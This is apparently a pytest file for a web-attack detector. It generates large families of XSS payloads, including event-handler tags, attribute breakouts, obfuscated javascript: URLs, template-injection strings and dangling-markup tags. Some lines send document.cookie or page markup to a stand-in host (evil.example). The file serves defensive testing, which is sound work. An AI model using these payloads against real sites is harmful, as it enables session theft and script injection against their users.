"""The XSS detector (node/detect/xss.py) on families generated from HTML/JS grammar, not on
a list of known payloads: every tag x handler position x handler x code, every attribute
breakout shape, every script-URL obfuscation a browser undoes; and the benign HTML, prose and
code that share their characters. The detector alone, then the engine."""

from __future__ import annotations

import itertools
import random

import pytest

from node.detect.engine import Engine
from node.detect.xss import detect_xss

TAGS = ["img", "input", "svg", "body", "details", "video", "x", "a", "div", "iframe", "marquee", "select", "math"]
HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
            "onfocusin", "onbegin", "onauxclick", "onwheel", "onbeforeinput", "onTransitionEnd", "ONCLICK"]
CODE = ["alert(1)", "prompt`1`", "confirm(document.domain)", "(alert)(1)", "top['al'+'ert'](1)",
        "eval(atob('YWxlcnQoMSk='))", "x=1", "location='//evil.example'", "import('//evil.example/x.js')",
        "window.onerror=alert;throw 1"]
FILLER_ATTRS = ["", "autofocus", "tabindex=1", 'class="x"', "src=x", "id=a title='b'", "open", "style=display:block"]
SEPARATORS = [" ", "/", "\t", "\n", " / "]
QUOTES = ['"', "'", ""]

# script URL schemes as a browser still reads them: entities, tabs and line breaks inside, case
SCHEMES = ["javascript:", "JaVaScRiPt:", "jav&#x09;ascript:", "jav&#9;ascript:", "java\tscript:", "java\nscript:",
           "&#106;avascript:", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;",
           "javascript&colon;", " \x01javascript:", "vbscript:", "jav&#x0A;ascript:"]
URL_ATTRS = [("a", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction"), ("object", "data"),
             ("embed", "src"), ("math", "href"), ("svg:a", "xlink:href"), ("animate", "values"), ("base", "href")]
DATA_URLS = ["data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
             "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,x"]


def _sample(items: list, n: int, seed: int) -> list:
    rng = random.Random(seed)
    return items if len(items) <= n else rng.sample(items, n)


def tag_handler_family() -> list[str]:
    """<tag [filler] handler=code [filler]>: the handler anywhere in the tag."""
    out = []
    for tag, handler, code, before, after, sep, q in itertools.product(
        TAGS, HANDLERS, CODE, FILLER_ATTRS, FILLER_ATTRS[:3], SEPARATORS, QUOTES
    ):
        if q == "" and (" " in code or "'" in code):
            continue
        attrs = [a for a in (before, f"{handler}={q}{code}{q}", after) if a]
        out.append(f"<{tag}{sep}" + sep.join(attrs) + ">")
    return _sample(out, 400, 1)


def attribute_breakout_family() -> list[str]:
    """A value reflected inside an attribute: close it, add attributes, a handler somewhere."""
    out = []
    for q, pre, handler, code, filler, tail in itertools.product(
        ['"', "'", ""], ["", "x", "mypayload", "1 "], HANDLERS, CODE, FILLER_ATTRS[:5], ["", ' x="', "//", ">", " a='"]
    ):
        if q == "" and not pre.endswith(" ") and filler == "":
            pre += " "
        sep = " " if filler else ""
        hq = "" if " " not in code else '"'
        out.append(f"{pre}{q}{sep}{filler} {handler}={hq}{code}{hq}{tail}")
    return _sample(out, 400, 2)


def script_url_family() -> list[str]:
    out = []
    for scheme, (tag, attr), code, q in itertools.product(SCHEMES, URL_ATTRS, CODE[:6], ['"', "'", ""]):
        if q == "" and (any(c in scheme.strip() for c in " \t\n") or " " in code or "'" in code):
            continue  # white space ends an unquoted attribute value
        out.append(f"<{tag} {attr}={q}{scheme}{code}{q}>x</{tag}>")
        out.append(f"{scheme}{code}")
    for data, (tag, attr) in itertools.product(DATA_URLS, URL_ATTRS):
        out.append(f'<{tag} {attr}="{data}">')
    return _sample(out, 400, 3)


def js_context_family() -> list[str]:
    """A value reflected inside a JavaScript string: close it, join with an operator, call."""
    out = []
    for prefix, q, closer, op, code, end in itertools.product(
        ["", "x", "abc", "\\"], ["'", '"', "`"], ["", ")", "]", "})", "]);"], [";", "-", "+", "*", "||", ",", "&&", "}catch(e){"],
        CODE[:6], ["//", "", "-'", "-\"", ";x='", "<!--"],
    ):
        out.append(f"{prefix}{q}{closer}{op}{code}{end}")
    return _sample(out, 400, 4)


def other_shapes_family() -> list[str]:
    out = []
    for tag, sep in itertools.product(["script", "SCRIPT", "ScRiPt", "svg:script"], ["", " ", "/"]):
        out.append(f"<{tag}{sep}>alert(1)</{tag}>")
        out.append(f"<{tag} src=//evil.example/x.js></{tag}>")
    for comment in ["", "/**/", "/*x*/"]:
        out.append(f'<div style="width:expres{comment}sion(alert(1))">')
        out.append(f"x:e{comment}xpression(alert(1))")
        out.append(f"[color=red width=expression{comment}(confirm(1))]")
    for expr in ["constructor.constructor('alert(1)')()", "$eval('alert(1)')", "toString.constructor.prototype.charAt=[].join",
                 "$on.constructor('alert(1)')()", "x=['constructor']"]:
        out.append("{{" + expr + "}}")
    for breaker in ["</title>", "</textarea>", "</script>", "-->", "</style>", "</noscript>"]:
        out.append(f"{breaker}<img src=x onerror=alert(1)>")
        out.append(f"{breaker}<script>alert(1)</script>")
    for q, op in itertools.product(["'", '"', "`"], ["-", ";", "};", "+"]):
        out.append(f"{q}{op}(location=name){op}{q}")  # window.name carries the code
        out.append(f"{q}{op}document.location='//evil.example/'+document.cookie//")
    for code in ["alert(1)", "document.cookie", "fetch('//evil.example')", "window.location"]:
        out.append("${" + code + "}")  # a JavaScript template literal
    for srcdoc in ['<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">', "<iframe srcdoc='<script>alert(1)</script>'>"]:
        out.append(srcdoc)
    return out


def dangling_markup_family() -> list[str]:
    """A URL attribute whose value, on another host, runs on over the page's own markup: its
    quote never closes, or the quoted value holds the next tag (`<body background="//evil? <table`).
    The browser sends that markup, tokens and all, to the remote host."""
    out = []
    for tag, attr in [("img", "src"), ("body", "background"), ("a", "href"), ("form", "action"),
                      ("table", "background"), ("input type=image", "src"), ("video", "poster")]:
        for host in ["//evil.example/?", "https://evil.example/log?", "http://10.0.0.9/c?x=", " //evil.example/"]:
            for q in ["'", '"']:
                out.append(f"<{tag} {attr}={q}{host}")
                out.append(f"x{q}><{tag} {attr}={q}{host}")
                out.append(f"<{tag} {attr}={q}{host} <table><tr><td>{q}>")
    return out


ATTACK_FAMILIES = {
    "dangling-markup": dangling_markup_family,
    "tag-handler": tag_handler_family,
    "attribute-breakout": attribute_breakout_family,
    "script-url": script_url_family,
    "js-context": js_context_family,
    "other": other_shapes_family,
}

BENIGN = [
    "Use <b>bold</b> and <i>italic</i> in comments",
    "<p>Hello <em>world</em></p>",
    '<a href="https://example.com/page">Example</a>',
    "<a href=https://example.com/a?b=c&d=e>link</a>",
    '<img src="https://cdn.example.com/a.png" alt="a cat" width="200">',
    '<ul><li>one</li><li class="x">two</li></ul>',
    "<blockquote>quoted</blockquote><br/><hr>",
    '<span style="color: red; font-weight: bold">warning</span>',
    '<a href="/docs/intro" title="the good parts">jump</a>',
    "JavaScript: Basics of JavaScript Language",
    "javascript: the definitive guide",
    "# Title\n\nSome **bold** text and a [link](https://example.com).",
    "Tom & Jerry <3 forever",
    "2 < 3 and 5 > 4",
    "a <= b and b >= c",
    "onload event in html",
    "the onclick handler fires twice",
    "session=abc; onboarding=done; theme=dark",
    "utm_source=news&onsale=1",
    "He said 'hello', then left",
    "It's -- great, isn't it?",
    '{"title": "x", "body": "it\'s fine", "n": 1}',
    "const x = items.map(i => i * 2);",
    "function add(a, b) { return a + b; }",
    "if (a < b && c > d) { swap(); }",
    "for power, binary<script is incorrect",
    "Hello {{ user.name }}, your order is ready",
    "{{ price | currency }} per month",
    "data: 42, status: ok",
    "<title> tag best practices",
    "expression of interest (EOI) form",
    "Regular expression (regex) tutorial",
    "alert: your package has shipped",
    "print('hello world')",
    "<img src='/static/a.png?v=2",
    '<a href="https://example.com/a">one</a> and <a href="https://example.com/b">two</a>',
    '<img src="https://cdn.example.com/a.png" alt="<3">',
]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


@pytest.mark.parametrize("family", list(ATTACK_FAMILIES))
def test_detector_finds_every_member_of_a_family(family: str) -> None:
    members = ATTACK_FAMILIES[family]()
    assert len(members) >= 20
    missed = [m for m in members if not detect_xss(m)]
    assert not missed, f"{family}: missed {len(missed)} of {len(members)}: {missed[:8]}"


@pytest.mark.parametrize("family", list(ATTACK_FAMILIES))
def test_engine_blocks_every_member_of_a_family(engine: Engine, family: str) -> None:
    members = ATTACK_FAMILIES[family]()
    missed = [m for m in members if not engine.analyze_value(m).is_attack]
    assert not missed, f"{family}: missed {len(missed)} of {len(members)}: {missed[:8]}"


@pytest.mark.parametrize("value", BENIGN)
@pytest.mark.parametrize("kind", ["query", "json"])
def test_benign_html_and_prose_pass(engine: Engine, value: str, kind: str) -> None:
    assert detect_xss(value, kind) is None
    det = engine.analyze_value(value, location=f"{kind}.x", kind=kind)
    assert not det.is_attack, det.attacks


@pytest.mark.parametrize("value", ['<a href="javascript:void(0)">menu</a>', '<a href="javascript: void(0);">menu</a>',
                                   '<a href="javascript:;" onclick>x</a>', "javascript:void(0)", "javascript:"])
def test_script_urls_that_do_nothing_are_not_judged_script(value: str) -> None:
    # (the engine's weaker signatures may still add these up with the tag around them)
    assert detect_xss(value) is None


def test_jsx_handlers_are_code_in_bodies_and_html_in_urls() -> None:
    jsx = "<Button onClick={() => setOpen(true)}>Open</Button>"
    assert detect_xss(jsx, "json") is None
    assert detect_xss(jsx, "query") == "tag-handler"


@pytest.mark.parametrize("value", ["<img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"", "';alert(1)//"])
def test_payload_after_padding_is_found(value: str) -> None:
    # a payload past the first window: the value is read in overlapping windows
    for pad in ("a" * 10_000, "lorem ipsum " * 2_000, "<b>x</b> " * 1_500):
        assert detect_xss(pad + " " + value), (len(pad), value)


def test_time_bound_is_respected() -> None:
    calls = []

    def out_of_time() -> bool:
        calls.append(1)
        return len(calls) > 3

    text = "<b>x</b> " * 200_000
    assert detect_xss(text, "query", out_of_time) is None
    assert len(calls) == 4  # stopped at the fourth window, not the ~900th
